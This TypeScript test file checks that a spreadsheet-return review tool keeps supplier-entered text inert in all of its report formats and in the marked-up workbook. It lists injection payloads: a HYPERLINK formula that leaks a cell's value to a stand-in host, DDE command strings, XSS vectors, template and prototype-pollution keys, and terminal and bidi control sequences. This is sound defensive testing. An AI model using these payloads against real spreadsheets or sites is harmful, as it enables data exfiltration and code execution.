/** Texts that would do something elsewhere, in every place of a return where a supplier can write: all of it stays text. */
import { JSDOM } from 'jsdom';
import Papa from 'papaparse';
import { newWorkbook, readWorkbook } from '../../src/hosts/file';
import { markupOf } from '../../src/markup';
import { findingsAsCsv } from '../../src/reports/csv';
import { reviewsAsHtml } from '../../src/reports/html/page';
import { reviewsAsJson } from '../../src/reports/json';
import type { ReviewedFile } from '../../src/reports/outcome';
import { reviewsAsSarif } from '../../src/reports/sarif';
import { PLAIN } from '../../src/reports/text/palette';
import { outcomeAsText } from '../../src/reports/text/text';
import { review } from '../../src/review';
import { RULES } from '../../src/rules';
import type { Markup } from '../../src/workbook/markup';
import { formulaAt } from '../../src/workbook/snapshot';
import { shippedAgreement } from '../agreement/shipped-agreement';
import { addColumn, july, set, type Edit } from '../rules/return-workbook';

const agreement = shippedAgreement();

const ATTACKS = [
  '=HYPERLINK("http://x.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '\t=1+1',
  '＝1+1',
  '<script>window.ran=1</script>',
  '<img src=x onerror="window.ran=1">',
  '"><svg/onload=window.ran=1>',
  "' onmouseover='window.ran=1",
  'javascript:window.ran=1',
  '{{constructor.constructor("window.ran=1")()}}',
  '${7*7}',
  ']]><x/>',
  '&lt;b&gt;',
  '__proto__',
  'constructor',
  'toString',
  '\u001b[2J\u001b]0;title\u0007',
  '\u202Etxt.exe',
  'a\u200Bb\u2066c\u2069',
  'one\r\ntwo\nthree',
  '"quoted", and; split',
  '\ud800lone',
  'x'.repeat(32_767),
] as const;

/** Places by sheet, row key and heading. */
const PLACES: readonly (readonly [string, string, string])[] = [
  ...['Contract', 'Supplier', 'Reporting month', 'Return version', 'Data status', 'SDA version', 'Prepared by', 'Nil return'].map((line) => ['Cover', line, 'Value'] as const),
  ...['Reference', 'Service', 'Indicator', 'Unit', 'Target', 'Numerator', 'Actual', "Supplier's own rating", 'Previous month', 'Data status', 'Commentary'].map((heading) => ['KPIs', 'A01-2', heading] as const),
  ...['Activity reference', 'Date', 'School number', 'School name', 'Service', 'Priority', 'Activity type', 'Days', 'Order reference', 'Commissioned or traded'].map((heading) => ['Activity', 'ACT-001-04', heading] as const),
  ['Priorities', '1', 'Priority'],
  ['Volumetrics', 'V3', 'Reference'],
  ['Volumetrics', 'V3', 'Measure'],
  ['Days', 'SCC-A-14-001', 'Order reference'],
  ['Days', 'SCC-A-14-001', 'Charged'],
]; // prettier-ignore

function reviewedWith(...edits: readonly Edit[]): { readonly outcome: ReviewedFile; readonly markup: Markup } {
  const snapshot = july(...edits).snapshot();
  const made = review({ snapshot, agreement });
  const outcome: ReviewedFile = { isReviewed: true, file: 'july.xlsx', review: made, earlier: [], agreement };
  return { outcome, markup: markupOf({ review: made, snapshot, agreement }) };
}

/** Excel allows any name of up to 31 characters but a few signs. */
const renamed =
  (sheet: string, name: string): Edit =>
  (workbook) => {
    const at = workbook.sheets.findIndex((each) => each.name === sheet);
    const copy = workbook.sheet(sheet).copy(name);
    workbook.sheets.splice(at, 1, copy);
  };

/** Everything that a spreadsheet, a browser, a terminal or a program could take for more than text. */
function expectHarmless({ outcome, markup }: ReturnType<typeof reviewedWith>): void {
  const page = new JSDOM(reviewsAsHtml([outcome]), { runScripts: 'dangerously' }).window;
  expect(page.document.querySelectorAll('script, img, svg, iframe, object, x, b')).toHaveLength(0);
  expect(page).not.toHaveProperty('ran');
  for (const element of page.document.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) expect(`${name}=${value}`).not.toMatch(/^on|^href=(?!#)/i);
  }
  const rows = Papa.parse<string[]>(findingsAsCsv([outcome]).slice(1), { skipEmptyLines: true }).data;
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[\s\u200B]*[=+\-@＝＋－＠](?!\d+(\.\d+)?$)/u);
  expect(outcomeAsText(outcome, TERMINAL)).not.toMatch(/\p{Bidi_Control}|(?!\n)\p{Cc}/u);
  const parsed: unknown = JSON.parse(reviewsAsJson([outcome]));
  expect(Object.getPrototypeOf(parsed)).toBe(Object.prototype);
  expect(
    () => JSON.parse(reviewsAsSarif([outcome], { version: '1', rules: RULES.map(({ meta }) => meta) })) as unknown,
  ).not.toThrow();
  expectOnlyOurFormulas(markup);
}

const TERMINAL = { width: 100, palette: PLAIN, showAll: true, verdictOnly: false };

/** Written to a workbook and read back, every text is a text and every formula is one that the mark-up meant. */
function expectOnlyOurFormulas({ sheets }: Markup): void {
  const written = readWorkbook(newWorkbook(sheets));
  for (const [at, { cells, name }] of sheets.entries()) {
    const sheet = written.sheets[at];
    if (sheet?.name !== name) throw new Error(`The sheet ${name} was not written.`);
    const ours = cells.filter(({ value }) => value.kind === 'formula').length;
    const found = sheet.columns.reduce((sum, column) => sum + column.formulas.size, 0);
    expect([name, found]).toEqual([name, ours]);
    for (const { row, column, value } of cells) {
      if (value.kind === 'formula') expect(formulaAt(sheet, row, column)).toBe(value.formula);
    }
  }
}

describe('a text that would do something elsewhere', () => {
  it.each(['Cover', 'KPIs', 'Activity', 'the others'])(
    'is text in every place of %s',
    (table) => {
      const tables = ['Cover', 'KPIs', 'Activity'];
      const places = PLACES.filter(([sheet]) => (tables.includes(table) ? sheet === table : !tables.includes(sheet)));
      // In each turn every place holds another of them, so that each place comes to hold them all.
      ATTACKS.forEach((_, turn) => {
        const edits = places.map(([sheet, key, heading], at) =>
          set(sheet, key, heading, ATTACKS[(at + turn) % ATTACKS.length] ?? ''),
        );
        expectHarmless(reviewedWith(...edits));
      });
    },
    120_000,
  );

  it('is text as the heading of a column and as the name of a sheet', () => {
    for (const attack of ATTACKS) {
      const name = attack.replace(/[\\/?*[\]:]/g, ' ').slice(0, 31);
      expectHarmless(reviewedWith(addColumn('Days', attack), renamed('KPIs', name)));
    }
  }, 120_000);

  it('leaves the prototypes of the program alone', () => {
    expect(Object.keys(Object.prototype)).toEqual([]);
    console.info(
      `${String(ATTACKS.length)} texts in ${String(PLACES.length + 2)} places: ${String(ATTACKS.length * (PLACES.length + 2))} injections tried.`,
    );
  });
});
